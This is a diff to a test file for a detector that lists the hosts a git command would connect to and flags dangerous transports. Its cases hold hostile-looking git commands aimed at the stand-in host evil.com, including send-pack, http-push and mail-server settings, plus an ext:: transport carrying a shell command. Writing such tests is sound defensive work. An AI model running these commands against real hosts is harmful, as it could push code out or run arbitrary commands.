@@ -39,6 +39,27 @@ describe('the hosts git connects to', () => {
     ["git clone 'a:b@[::1]:x'", ['ssh://a:b@[::1]/']],
     ["git clone 'a:b@evil.com:x'", ['ssh://a/']], // (as git reads it: host a, path b@evil.com:x)
     ['git ls-remote -- "$R"', ['?$R']],
+    // (Found in review: plumbing, helpers and porcelain that connect, and keys that name a host.)
+    ['git fetch-pack evil.com:x', ['ssh://evil.com/']],
+    ['git fetch-pack --all evil.com:x', ['ssh://evil.com/']],
+    ['git send-pack evil.com:x main', ['ssh://evil.com/']],
+    ['git http-fetch -a -w f https://evil.com/x', ['https://evil.com/x']],
+    ['git http-push https://evil.com/x main', ['https://evil.com/x']],
+    ['git remote-https origin https://evil.com/x', ['https://evil.com/x']],
+    ['git remote-ftp origin evil.com/x', ['ftp://evil.com/x']],
+    ['git -c remotes.g=evil.com:x remote update g', ['ssh://evil.com/']],
+    ['git config remotes.g "origin https://evil.com/x"', ['https://evil.com/x']],
+    ['git subtree add --prefix=d evil.com:x main', ['ssh://evil.com/']],
+    ['git subtree pull -P d evil.com:x main', ['ssh://evil.com/']],
+    ['git subtree -P d push evil.com:x main', ['ssh://evil.com/']],
+    ['git subtree merge -P d main evil.com:x', ['ssh://evil.com/']],
+    ['git submodule set-url sub evil.com:x', ['ssh://evil.com/']],
+    ['git submodule set-url -- sub https://evil.com/x', ['https://evil.com/x']],
+    ['git -c imap.host=evil.com imap-send', ['imap://evil.com/']],
+    ['git -c imap.host=imaps://evil.com imap-send', ['imaps://evil.com']],
+    ['git -c sendemail.smtpServer=evil.com send-email x.patch', ['smtp://evil.com/']],
+    ['git config sendemail.work.smtpServer evil.com', ['smtp://evil.com/']],
+    ["git -c 'http.curloptResolve=good.com:443:6.6.6.6,[::1]' clone https://good.com/x", ['https://good.com/', 'https://6.6.6.6/', 'https://[::1]/', 'https://good.com/x']],
   ])('%s', (line, expected) => {
     expect(urls(line)).toEqual(expected);
   });
@@ -46,6 +67,7 @@ describe('the hosts git connects to', () => {
   it.each([
     'git push origin main', 'git fetch', 'git fetch --all', 'git pull origin', 'git remote set-url --delete origin https://evil.com/x',
     'git remote -v', 'git config user.name x', 'git commit -m https://evil.com/x', 'git log --grep evil.com:x',
+    'git subtree add -P d main', 'git subtree split -P lib', 'git config remotes.g "origin upstream"', 'git -c http.curloptResolve=-good.com:443 fetch',
   ])('%s: none', (line) => {
     expect(urls(line)).toEqual([]);
   });
@@ -63,6 +85,7 @@ describe('the hosts git connects to', () => {
     expect(problems("git clone 'ext::sh -c touch% /tmp/x'")).toEqual([expect.stringContaining('runs the command line it is given')]);
     expect(problems('git fetch foo::bar')).toEqual([expect.stringContaining('remote helper program')]);
     expect(problems('git clone ::x')).toEqual([expect.stringContaining('remote helper program')]);
+    expect(problems('git remote-ext origin x')).toEqual([expect.stringContaining('remote helper program')]);
   });
 
   it("runs what clone's own configuration and push's --exec name", () => {
